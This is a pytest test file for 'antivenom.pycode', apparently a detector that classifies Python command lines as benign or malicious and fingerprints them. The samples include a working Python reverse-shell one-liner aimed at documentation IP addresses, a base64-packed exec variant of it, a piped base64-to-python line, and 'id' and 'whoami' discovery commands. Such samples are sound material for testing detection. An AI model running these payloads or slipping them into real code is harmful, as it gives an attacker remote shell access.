"""What a reading gives back: verdicts, fingerprints, indicators, and plain values."""

from __future__ import annotations

import base64
import json

import pytest

from antivenom.pycode import VERDICTS, explain, explain_source

SHELL = (
    "import socket,os,pty;s=socket.socket();s.connect(('{host}',{port}));"
    "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('{shell}')"
)


def shell(host: str = "192.0.2.10", port: int = 4444, shell: str = "/bin/sh") -> str:
    return SHELL.format(host=host, port=port, shell=shell)


def test_a_program_as_plain_values() -> None:
    program = explain(["python3", "-c", shell()])
    plain = json.loads(json.dumps(program.as_dict()))
    assert plain["verdict"] == "malicious"
    assert plain["behaviours"][0] == "reverse_shell"
    assert "It connects to 192.0.2.10:4444, then hands the connection to /bin/sh" in plain["summary"]
    assert {"kind": "ip", "value": "192.0.2.10"} in plain["indicators"]
    assert {"kind": "port", "value": "4444"} in plain["indicators"]
    assert plain["attack"] == sorted(plain["attack"])
    assert plain["parts"][0]["kind"] == "inline"


def test_a_line_without_python() -> None:
    program = explain("ls -l /tmp")
    assert (program.verdict, program.parts, program.fingerprint) == ("benign", (), "")
    assert program.summary == "No Python is started here."


@pytest.mark.parametrize(
    "other",
    [
        shell("198.51.100.7", 9001, "/bin/bash"),
        shell().replace("s=socket", "conn=socket").replace(";s.", ";conn.").replace("(s.", "(conn."),
        shell().replace(";", "\n"),
    ],
)
def test_one_tool_has_one_fingerprint(other: str) -> None:
    assert explain(["python3", "-c", other]).fingerprint == explain(["python3", "-c", shell()]).fingerprint


def test_layers_around_a_tool_do_not_change_its_fingerprint() -> None:
    packed = base64.b64encode(shell().encode()).decode()
    hidden = explain(["python3", "-c", f"import base64;exec(base64.b64decode('{packed}'))"])
    assert hidden.fingerprint == explain(["python3", "-c", shell()]).fingerprint


def test_other_programs_have_others() -> None:
    one = explain(["python3", "-c", "import os;os.system('id')"]).fingerprint
    assert one != explain(["python3", "-c", shell()]).fingerprint


def test_verdicts_are_in_order() -> None:
    assert VERDICTS == ("benign", "notable", "suspicious", "malicious")


def test_a_file() -> None:
    program = explain_source(shell(), name="stage.py")
    assert program.command == "stage.py"
    assert program.verdict == "malicious"


def test_a_parent_shows_what_the_child_does_not() -> None:
    packed = base64.b64encode(b"import os;os.system('id')").decode()
    child = explain(["python3"], parent=["sh", "-c", f"echo {packed} | base64 -d | python3"])
    assert "shell_command" in child.behaviours


def test_a_renamed_interpreter_by_its_original_name() -> None:
    line = r'C:\Users\Public\svc.exe -c "import os;os.system(\'whoami\')"'
    program = explain(line, platform="windows", original_name="python.exe")
    assert "discovery" in program.behaviours


def test_readings_do_not_depend_on_each_other() -> None:
    first = explain(["python3", "-c", shell()]).as_dict()
    explain(["python3", "-c", "import os;os.system=print;__builtins__.exec=print"])
    assert explain(["python3", "-c", shell()]).as_dict() == first
